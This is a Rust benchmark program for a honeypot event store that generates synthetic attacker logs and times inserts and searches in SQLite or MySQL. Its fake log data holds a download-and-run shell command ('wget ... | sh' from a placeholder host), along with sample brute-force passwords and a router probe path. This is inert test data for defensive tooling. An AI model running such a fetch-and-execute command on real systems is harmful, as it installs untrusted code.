//! How fast rows go in and come out: `cargo run --release -p store --example ingest -- [--rows N] [--batch N] [--mysql URL]
//! [--keep FILE] [--reads]`. Prints one line per figure. Without `--mysql` a SQLite file in the temporary directory is used.
#![allow(
    clippy::print_stdout,
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::cast_possible_truncation,
    reason = "a tool for measuring"
)]

use model::Micros;
use std::{
    path::PathBuf,
    sync::Arc,
    time::{Duration, Instant},
};
use store::{
    At, AttackerQuery, AttackerRow, AttackerSort, Batch, Config, LogQuery, NewBounty, NewCredential, NewLog, Position, Recorded,
    SessionChange, Store,
};

struct Options {
    rows: u64,
    batch: u64,
    mysql: Option<String>,
    keep: Option<PathBuf>,
    reads: bool,
}

#[tokio::main]
async fn main() {
    let options = options();
    let dir = std::env::temp_dir().join(format!("decnet-ingest-{}", std::process::id()));
    let file = options.keep.clone().unwrap_or_else(|| {
        std::fs::create_dir_all(&dir).unwrap();
        dir.join("decnet.db")
    });
    let config = options.mysql.clone().map_or(Config::Sqlite(file), Config::MySql);
    let store = Store::open(&config).await.unwrap();
    for kind in [Kind::Plain, Kind::Mixed] {
        ingest(&store, kind, &options).await;
    }
    if options.reads {
        read(&store).await;
    }
    drop(store);
    let _ = std::fs::remove_dir_all(&dir);
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Kind {
    Plain,
    /// 40 % with a credential, 20 % HTTP requests with evidence, sessions.
    Mixed,
}

async fn ingest(store: &Store, kind: Kind, options: &Options) {
    let spool = format!("{kind:?}");
    let mut dice = Dice(0x9e37_79b9_7f4a_7c15 ^ kind as u64);
    let mut at = store.spool_position(&spool).await.unwrap();
    let (mut done, mut spent, mut worst, mut cpu) = (0, Duration::ZERO, Duration::ZERO, 0.0);
    while done < options.rows {
        let to = Position { segment: 0, offset: at.offset + options.batch };
        let batch = Arc::new(batch(&spool, kind, at, to, options.batch, &mut dice));
        let (begun, cpu_before) = (Instant::now(), cpu_seconds());
        assert!(matches!(store.record_shared(&batch).await.unwrap(), Recorded::Now { .. }));
        let took = begun.elapsed();
        spent += took;
        cpu += cpu_seconds() - cpu_before;
        worst = worst.max(took);
        at = to;
        done += options.batch;
    }
    println!(
        "record {kind:?}: {:.0} rows/s, {:.0} rows per second of processor, worst batch of {} {worst:.1?}",
        done as f64 / spent.as_secs_f64(),
        done as f64 / cpu,
        options.batch
    );
}

fn batch(spool: &str, kind: Kind, from: Position, to: Position, rows: u64, dice: &mut Dice) -> Batch {
    const SERVICES: [(&str, u16); 8] =
        [("ssh", 22), ("telnet", 23), ("http", 80), ("https", 443), ("ftp", 21), ("smtp", 25), ("redis", 6_379), ("mysql", 3_306)];
    const EVENTS: [&str; 5] = ["connect", "command", "query", "ehlo", "disconnect"];
    let mut batch = Batch { spool: spool.into(), from, to, ..Batch::default() };
    for n in from.offset..from.offset + rows {
        let at = Micros(1_795_392_000_000_000 + n as i64 * 86);
        let (service, port) = SERVICES[dice.below(8) as usize];
        // Most comes from a few hundred sources, the rest from a hundred thousand.
        let source = if dice.below(5) == 0 { dice.below(100_000) } else { dice.below(300) };
        let ip = ip(source);
        let decky = format!("local:decky-{:02}", dice.below(50));
        let session = uuid(n / 400 * 400 + source % 40, 7);
        let what = dice.below(10);
        let mut log = NewLog {
            event_uuid: uuid(n + ((kind as u64) << 40), dice.next()),
            at,
            decky: decky.clone(),
            service: service.into(),
            event_type: EVENTS[dice.below(5) as usize].into(),
            attacker_ip: ip.clone(),
            src_port: Some(1_024 + dice.below(60_000) as u16),
            dst_port: Some(port),
            session_id: Some(session.clone()),
            fields: format!(
                r#"{{"command":"cd /tmp; wget http://198.51.100.{}/bins/x{}.sh -O- | sh","user":"root","cwd":"/root"}}"#,
                dice.below(250),
                dice.below(5_000)
            ),
            msg: format!("{ip} ran a command on {decky}: cd /tmp; wget http://198.51.100.7/bins"),
        };
        if kind == Kind::Mixed && what < 4 {
            let secret = format!("password{}", dice.below(20_000));
            log.event_type = "auth_attempt".into();
            log.fields = format!(
                r#"{{"principal":"root","secret_printable":"{secret}","secret_b64":"cGFzc3dvcmQ=","secret_kind":"plaintext","outcome":"failure"}}"#
            );
            log.msg = format!("{ip} tried root / {secret} on {decky}");
            batch.credentials.push(NewCredential {
                at,
                attacker_ip: ip.clone(),
                decky_name: decky.clone(),
                service: service.into(),
                principal: Some("root".into()),
                secret_kind: "plaintext".into(),
                secret_sha256: digest(&secret),
                secret_b64: "cGFzc3dvcmQ=".into(),
                secret_printable: secret,
                outcome: "failure".into(),
                fields: "{}".into(),
            });
        } else if kind == Kind::Mixed && what < 6 {
            log.event_type = "request".into();
            log.service = "http".into();
            log.fields = format!(
                r#"{{"method":"GET","path":"/cgi-bin/luci/;stok=/{}","version":"HTTP/1.1","headers":[["Host","192.0.2.1"],["User-Agent","Mozilla/5.0 zgrab/0.x"],["Accept","*/*"]],"body":"","body_len":0,"status":404}}"#,
                dice.below(3_000)
            );
            batch.bounties.push(NewBounty {
                at,
                decky: decky.clone(),
                service: "http".into(),
                attacker_ip: ip.clone(),
                bounty_type: "fingerprint".into(),
                payload: format!(r#"{{"kind":"http_headers","value":"host,user-agent,accept {}"}}"#, dice.below(3)),
            });
        }
        if kind == Kind::Mixed && what == 9 {
            let change = SessionChange {
                sid: session,
                decky,
                service: service.into(),
                attacker_ip: ip,
                first_at: at,
                commands: 1,
                ..SessionChange::default()
            };
            batch.sessions.push(change);
        }
        batch.logs.push(log);
    }
    batch
}

/// Words for the index, attackers, then each kind of read by itself, then many at once.
async fn read(store: &Store) {
    let begun = Instant::now();
    let mut indexed = 0;
    loop {
        match store.index_text(5_000).await.unwrap() {
            0 => break,
            rows => indexed += rows,
        }
    }
    println!("index words: {:.0} rows/s", indexed as f64 / begun.elapsed().as_secs_f64());
    let begun = Instant::now();
    for part in 0..50_u64 {
        let rows: Vec<AttackerRow> = (part * 2_000..part * 2_000 + 2_000).map(attacker).collect();
        store.save_attackers(&rows, ("bench", 1)).await.unwrap();
    }
    println!("save attackers: {:.0} rows/s", 100_000.0 / begun.elapsed().as_secs_f64());

    let search = |text: &str| LogQuery { search: Some(text.into()), limit: 50, ..LogQuery::default() };
    let last = store.stats(Micros(0)).await.unwrap().last_seen.unwrap().0;
    let hour = LogQuery { start: Some(Micros(last.0 - 3_600_000_000)), limit: 50, ..LogQuery::default() };
    let attackers = |search: &str, sort| AttackerQuery {
        search: Some(search.into()).filter(|s: &String| !s.is_empty()),
        sort,
        limit: 50,
        ..Default::default()
    };
    macro_rules! measure {
        ($($name:expr => $call:expr;)*) => {$({
            let mut times = Vec::new();
            for _ in 0..30 {
                let begun = Instant::now();
                $call.await.unwrap();
                times.push(begun.elapsed());
            }
            times.sort();
            println!("{:<42} median {:>9.1?}  worst {:>9.1?}", $name, times[15], times[29]);
        })*};
    }
    measure! {
        "logs, newest" => store.logs(&LogQuery { limit: 50, ..LogQuery::default() });
        "logs, offset 900,000" => store.logs(&LogQuery { limit: 50, offset: 900_000, ..LogQuery::default() });
        "logs, last hour" => store.logs(&hour);
        "logs, service:ssh" => store.logs(&search("service:ssh"));
        "logs, service:ssh offset 9,000" => store.logs(&LogQuery { offset: 9_000, ..search("service:ssh") });
        "logs, common word" => store.logs(&search("wget"));
        "logs, common words and facets" => store.logs(&search("wget root service:ssh event:command"));
        "logs, rare word" => store.logs(&search("password777"));
        "logs, address" => store.logs(&search("10.0.0.7"));
        "logs, attacker" => store.logs(&search("attacker:10.0.0.7"));
        "logs, attacker and event" => store.logs(&search("attacker:10.0.0.7 event:command"));
        "logs, field" => store.logs(&search("secret_printable:password777"));
        "logs, nothing found" => store.logs(&search("nosuchword"));
        "logs, common word in the last hour" => store.logs(&LogQuery { search: Some("wget".into()), ..hour.clone() });
        "logs, prefix" => store.logs(&search("password77*"));
        "histogram, all" => store.histogram(&LogQuery::default(), 60);
        "histogram, service:ssh" => store.histogram(&search("service:ssh"), 60);
        "histogram, rare word" => store.histogram(&search("password777"), 60);
        "histogram, common word" => store.histogram(&search("wget"), 60);
        "stats" => store.stats(last);
        "attackers, recent" => store.attackers(&attackers("", AttackerSort::Recent));
        "attackers, traversals offset 90,000" => store.attackers(&AttackerQuery { offset: 90_000, ..attackers("", AttackerSort::Traversals) });
        "attackers, 10.0." => store.attackers(&attackers("10.0.", AttackerSort::Recent));
        "attackers, 10.1.2" => store.attackers(&attackers("10.1.2", AttackerSort::Active));
        "attackers, part of an address" => store.attackers(&attackers(".99.9", AttackerSort::Active));
        "attackers, country" => store.attackers(&attackers("nl", AttackerSort::Recent));
        "attackers, network" => store.attackers(&attackers("net 77", AttackerSort::Recent));
        "attackers, service" => store.attackers(&AttackerQuery { service: Some("ssh".into()), ..attackers("", AttackerSort::Recent) });
        "credentials, newest" => store.credentials(None, None, None, 50, 0);
        "credentials, word" => store.credentials(Some("password777"), None, None, 50, 0);
        "credentials, service" => store.credentials(None, Some("ssh"), None, 50, 0);
        "credentials, attacker" => store.credentials(None, None, Some("10.0.0.7"), 50, 0);
        "bounties, newest" => store.bounties(None, None, None, 50, 0);
        "sessions, newest" => store.sessions(None, None, false, 50, 0);
    }
    many(store, "logs, newest, 16 at once", |store| async move {
        store.logs(&LogQuery { limit: 50, ..LogQuery::default() }).await.unwrap().total
    })
    .await;
    many(store, "searches, 16 at once", |store| async move {
        let mut total = 0;
        for text in ["wget", "password777", "10.0.0.7 service:ssh", "root event:command"] {
            total += store.logs(&LogQuery { search: Some(text.into()), limit: 50, ..LogQuery::default() }).await.unwrap().total;
        }
        total
    })
    .await;
}

/// How often a second `call` goes through with sixteen callers.
async fn many<F: Future<Output = i64> + Send + 'static>(store: &Store, name: &str, call: fn(Store) -> F) {
    let until = Instant::now() + Duration::from_secs(3);
    let callers: Vec<_> = (0..16)
        .map(|_| {
            let store = store.clone();
            tokio::spawn(async move {
                let mut calls = 0_u64;
                while Instant::now() < until {
                    call(store.clone()).await;
                    calls += 1;
                }
                calls
            })
        })
        .collect();
    let mut calls = 0;
    for caller in callers {
        calls += caller.await.unwrap();
    }
    println!("{name}: {:.0} calls/s", calls as f64 / 3.0);
}

/// Processor time of all threads.
fn cpu_seconds() -> f64 {
    std::fs::read_dir("/proc/self/task")
        .unwrap()
        .filter_map(|task| std::fs::read_to_string(task.ok()?.path().join("schedstat")).ok()?.split(' ').next()?.parse::<f64>().ok())
        .sum::<f64>()
        / 1e9
}

fn attacker(n: u64) -> AttackerRow {
    let at = |by: u64| At(Micros(1_795_392_000_000_000 + (n * 7_919 % 100_000 + by) as i64 * 1_000_000));
    AttackerRow {
        uuid: uuid(n, 3),
        ip: ip(n),
        first_seen: at(0),
        last_seen: at(500),
        event_count: (n * 31 % 5_000) as i64,
        services: vec!["ssh".into(), "http".into()],
        deckies: vec![format!("local:decky-{:02}", n % 50)],
        is_traversal: n.is_multiple_of(9),
        country_code: Some(["NL", "DE", "CN", "US", "RU"][(n % 5) as usize].into()),
        asn: Some((n % 900) as i64),
        as_name: Some(format!("Example Net {}", n % 900)),
        commands: vec!["uname -a".into(); 10],
        ..AttackerRow::default()
    }
}

fn ip(n: u64) -> String {
    format!("10.{}.{}.{}", n / 65_536, n / 256 % 256, n % 256)
}

fn uuid(n: u64, random: u64) -> String {
    format!(
        "{:08x}-{:04x}-7{:03x}-8{:03x}-{:012x}",
        (n / 100) >> 16,
        (n / 100) & 0xffff,
        random & 0xfff,
        (random >> 12) & 0xfff,
        (n * 2_654_435_761) & 0xffff_ffff_ffff
    )
}

fn digest(text: &str) -> String {
    let mut a = 0xcbf2_9ce4_8422_2325_u64;
    let mut out = String::new();
    for round in 0..4 {
        for byte in text.bytes() {
            a = (a ^ u64::from(byte) ^ round).wrapping_mul(0x0100_0000_01b3);
        }
        out.push_str(&format!("{a:016x}"));
    }
    out
}

/// xorshift
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, sides: u64) -> u64 {
        (self.next() >> 16) % sides
    }
}

fn options() -> Options {
    let mut options = Options { rows: 500_000, batch: 4_000, mysql: None, keep: None, reads: false };
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--rows" => options.rows = args.next().unwrap().parse().unwrap(),
            "--batch" => options.batch = args.next().unwrap().parse().unwrap(),
            "--mysql" => options.mysql = args.next(),
            "--keep" => options.keep = args.next().map(PathBuf::from),
            "--reads" => options.reads = true,
            other => panic!("unknown option {other}"),
        }
    }
    options
}
